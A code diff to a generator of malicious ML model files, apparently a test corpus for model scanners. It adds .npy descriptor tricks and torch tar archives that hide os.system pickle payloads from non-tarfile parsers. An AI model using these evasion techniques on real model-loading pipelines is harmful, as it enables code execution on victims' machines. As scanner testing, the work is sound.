@@ -462,6 +462,7 @@ def build():
 
     round_2026(evil)
     round_s20()
+    round_s20_tar(evil)
 
 
 def joblib_array_header(dtype, shape):
@@ -644,6 +645,9 @@ def round_s20():
            f"{src}: keras.utils.get_file as a gadget inside Keras' own namespace (CVE-2025-8747)")
     attack("s20-keras3-vocabulary-file.keras", k.keras_archive(k.sequential3([k.keras_object("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"})])),
            f"{src}: StringLookup reading its vocabulary from a path the config chooses (CVE-2025-12058)")
+    attack("s20-npy-subarray-object.npy", npy_object(evil_npy := simple("os", "system", CMD, proto=2), "('|O', (2,))"),
+           f"{src}: .npy whose descr is a subarray of objects (numpy's descr_to_dtype takes a (base, shape) tuple)")
+    attack("s20-npy-unicode-literal-descr.npy", npy_object(evil_npy, "u'|O'"), f"{src}: .npy descr written as a u'' literal (literal_eval reads it as '|O')")
     attack("s20-keras3-lambda-renamed.bin", k.keras_archive(k.sequential3([k.lambda3(k.lambda3_bytecode())])),
            f"{src}: a .keras archive under another name (load_model sniffs the zip)")
     unlisted = ("_aix_support", "_read_cmd_output")
@@ -656,6 +660,55 @@ def round_s20():
            f"{src}: module and name memoized before the opcode limit, STACK_GLOBAL of their BINGETs after it")
     attack("s20-protocol0-past-opcode-limit.p0.pkl.gz", gzip.compress(b"I1\n0" * 2_600_000 + b"cposix\nsystem\n(S'id'\ntR.", 9, mtime=0),
            f"{src}: protocol 0 (no PROTO header) padded past the opcode limit")
+
+
+def round_s20_tar(evil):
+    """Legacy torch tars whose `pickle` member only Python's tarfile finds (torch.load reads it with extractfile)."""
+    src = "s20"
+    benign = P(2).raw(b"}").stop().bytes()
+    empty = P(2).raw(b"]").stop().bytes()
+
+    def header(name, size, typeflag=b"0"):
+        h = bytearray(512)
+        h[: len(name)] = name.encode()
+        h[100:108] = b"0000644\0"
+        h[108:116] = b"0000000\0"
+        h[116:124] = b"0000000\0"
+        h[124:136] = b"%011o\0" % size
+        h[136:148] = b"00000000000\0"
+        h[156:157] = typeflag
+        h[257:265] = b"ustar\x0000"
+        h[148:156] = b" " * 8
+        h[148:156] = b"%06o\0 " % sum(h)
+        return bytes(h)
+
+    def member(name, data, typeflag=b"0"):
+        return header(name, len(data), typeflag) + data + b"\0" * (-len(data) % 512)
+
+    def legacy(pickle_part):
+        return member("sys_info", benign) + pickle_part + member("storages", empty) + member("tensors", empty) + b"\0" * 1024
+
+    def pax_record(key, value):
+        text = f" {key}={value}\n".encode()
+        n = len(text) + 1
+        while len(str(n)) + len(text) != n:
+            n = len(str(n)) + len(text)
+        return str(n).encode() + text
+
+    attack("s20-tar-unknown-type.tar", legacy(member("pickle", evil, b"Z")),
+           f"{src}: `pickle` member with an unknown type flag: tarfile reads unknown types as regular files")
+    attack("s20-tar-type-9.tar", legacy(member("pickle", evil, b"9")), f"{src}: `pickle` member with type flag 9 (not a tarfile type)")
+    pax = pax_record("size", len(evil))
+    attack("s20-tar-pax-size.tar", legacy(member("././@PaxHeader", pax, b"x") + header("pickle", 0) + evil + b"\0" * (-len(evil) % 512)),
+           f"{src}: header size 0, the real size in a pax `size` record (tarfile honours it)")
+    signed = bytearray(member("pickle", evil))
+    signed[265:268] = b"\xe9\xe9\xe9"  # owner name bytes above 0x7f: the signed and unsigned sums differ
+    signed[148:156] = b" " * 8
+    signed[148:156] = b"%06o\0 " % sum(b - 256 if b > 127 else b for b in signed[:512])
+    attack("s20-tar-signed-checksum.tar", legacy(bytes(signed)), f"{src}: `pickle` member whose header checksum is the signed sum (tarfile accepts both)")
+    hidden = member("pickle", evil)
+    attack("s20-tar-directory-size-hides-member.tar", legacy(header("data/", len(hidden), b"5") + hidden),
+           f"{src}: a directory entry whose size field covers the `pickle` member's header: tarfile skips no data after a directory")
 
 
 def _npz64(member):
